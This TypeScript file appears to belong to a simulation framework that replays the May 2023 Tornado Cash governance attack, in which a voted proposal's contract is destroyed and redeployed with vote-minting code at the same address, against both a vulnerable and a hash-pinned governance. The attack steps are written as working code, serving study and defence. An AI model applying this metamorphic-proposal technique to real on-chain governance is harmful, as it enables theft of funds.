import {
  Create2Factory,
  DelegatecallGovernance,
  HarmlessProposal,
  PinnedGovernance,
  PowerMintProposal,
  RedeployableDeployer,
  VotesToken,
} from '../../../../contracts/bindings/index.js';
import { type Address, accountOf, encodeDeploy, type Hex } from '../../../chain/index.js';
import type { AttackSession, ContractAt } from '../session/attack-session.js';
import { inWords, tokens, units } from '../session/words.js';
import type { AttackSetting, CaseDefinition, CaseOutcome } from './case-definition.js';

/** May 2023: real votes, and what was taken of them (the table; press: 483,000 TORN). */
const REAL_VOTES = 700_000n;
const THRESHOLD = 1_000n;
/** Accounts of the 120 that take their 10,000 out: 480,000 is near what was taken. */
const WITHDRAWING = 48n;
const SALT: Hex = `0x${'ca'.repeat(32)}`;
const VOTE_AND_DELAY = 7 * 86_400 + 1;

/** Tornado Cash, May 2023: the code of a proposal is another one after the vote. */
export const tornadoCash: CaseDefinition = {
  title: 'Tornado Cash',
  when: 'May 2023',
  published:
    'A proposal that looked like an earlier one was voted through; its contract was then destroyed and deployed again with other code at the same address. Run by delegatecall, it gave the attacker 1.2M votes against about 700,000 real ones; 483,000 TORN were taken.',
  defence: 'The hash of the code is kept when it is proposed, and no other code runs.',
  assumptions: [
    'Since Cancun (March 2024, EIP-6780) a contract cannot be destroyed and deployed again: that ends this way too.',
    'The harmless version does nothing at all; the real one copied an earlier proposal’s penalties.',
  ],
  run,
};

async function run(session: AttackSession, setting: AttackSetting): Promise<CaseOutcome> {
  const { deployer } = session.chain;
  const [members, attacker] = [accountOf('tornado/members'), accountOf('tornado/attacker')];
  const torn = await session.deploy(VotesToken, ['Torn', 'TORN', 18n, deployer]);
  const { address } = await session.deploy(setting === 'vulnerable' ? DelegatecallGovernance : PinnedGovernance, [
    torn.address,
  ]);
  // The defended one has the same functions, and one more error.
  const governance = { contract: DelegatecallGovernance, address };
  const locks = [
    [members, units(REAL_VOTES)],
    [attacker, units(THRESHOLD)],
  ] as const;
  for (const [account, amount] of locks) {
    await session.prepare(deployer, torn, 'mint', [account, amount]);
    await session.prepare(account, torn, 'approve', [governance.address, amount]);
    await session.prepare(account, governance, 'lock', [amount]);
  }
  const factory = await session.deploy(Create2Factory, []);
  const { redeployable, target } = await deployProposal(session, attacker, factory);
  await session.transact('attacker', 'proposes it', attacker, governance, 'propose', [target]);
  await session.transact(
    'members',
    `vote For with ${inWords(units(REAL_VOTES))} TORN`,
    members,
    governance,
    'castVote',
    [0n, true],
  );
  const { inFavour, against } = await session.read(governance, 'proposals', [0n]);
  session.wait(VOTE_AND_DELAY);
  const swapped = await swap(session, attacker, { factory, redeployable, target });
  const executed = await session.transact('attacker', 'executes what was voted on', attacker, governance, 'execute', [
    0n,
  ]);
  const { minted, taken } =
    swapped && executed.reverted === null
      ? await withdraw(session, governance, torn, target)
      : { minted: 0n, taken: 0n };
  return {
    succeeded: taken > 0n,
    sentence: sentenceOf(executed.reverted, minted, taken),
    loss: taken > 0n ? { amount: tokens(taken), symbol: 'TORN', usd: null } : null,
    votes: {
      for: tokens(inFavour),
      against: tokens(against),
      needed: tokens(await session.read(governance, 'QUORUM', [])),
    },
  };
}

function sentenceOf(reverted: string | null, minted: bigint, taken: bigint): string {
  if (taken > 0n) {
    return `What ran was not what was voted on: it gave the attacker ${inWords(minted)} votes against ${inWords(units(REAL_VOTES))} real ones, and ${inWords(taken)} TORN were taken.`;
  }
  return reverted === null
    ? 'The contract could not be replaced, so the harmless code that was voted on ran.'
    : `Other code stood at the address, and the governance would not run it: ${reverted}.`;
}

interface Deployed {
  readonly redeployable: ContractAt<typeof RedeployableDeployer>;
  readonly target: Address;
}

/** Deploys a deployer by CREATE2, and from it the proposal by CREATE: a deployer's first is always at the same address. */
async function deployProposal(
  session: AttackSession,
  from: Address,
  factory: ContractAt<typeof Create2Factory>,
): Promise<Deployed> {
  const redeployable = { contract: RedeployableDeployer, address: await session.read(factory, 'build', [SALT]) };
  await session.prepare(from, factory, 'build', [SALT]);
  const initCode = encodeDeploy(HarmlessProposal, []);
  const target = await session.read(redeployable, 'deploy', [initCode]);
  const what = 'deploys a harmless proposal by way of CREATE2 and CREATE';
  await session.transact('attacker', what, from, redeployable, 'deploy', [initCode]);
  return { redeployable, target };
}

/** Destroys proposal and deployer, and puts other code at the proposal's address: whether the chain let it. */
async function swap(
  session: AttackSession,
  from: Address,
  { factory, redeployable, target }: Deployed & { readonly factory: ContractAt<typeof Create2Factory> },
): Promise<boolean> {
  const proposal = { contract: HarmlessProposal, address: target };
  await session.transact('attacker', 'destroys the proposal', from, proposal, 'remove', []);
  await session.transact('attacker', 'destroys what deployed it', from, redeployable, 'remove', []);
  const again = await session.transact('attacker', 'deploys the deployer again', from, factory, 'build', [SALT]);
  if (again.reverted !== null) return false;
  const initCode = encodeDeploy(PowerMintProposal, []);
  const what = 'deploys other code at the same address';
  return (await session.transact('attacker', what, from, redeployable, 'deploy', [initCode])).reverted === null;
}

/** Takes the tokens of accounts that got votes out of nothing. */
async function withdraw(
  session: AttackSession,
  governance: ContractAt<typeof DelegatecallGovernance>,
  torn: ContractAt<typeof VotesToken>,
  target: Address,
): Promise<{ readonly minted: bigint; readonly taken: bigint }> {
  const code = { contract: PowerMintProposal, address: target };
  let [minted, taken] = [0n, 0n];
  for (let i = 0n; i < (await session.read(code, 'ACCOUNTS', [])); i++) {
    const account = await session.read(code, 'accountOf', [i]);
    const votes = await session.read(governance, 'lockedBalance', [account]);
    minted += votes;
    if (i >= WITHDRAWING) continue;
    await session.prepare(account, governance, 'unlock', [votes]);
    taken += await session.read(torn, 'balanceOf', [account]);
  }
  session.tell('attacker', `takes ${inWords(taken)} TORN out of the governance, from ${WITHDRAWING} accounts`);
  return { minted, taken };
}
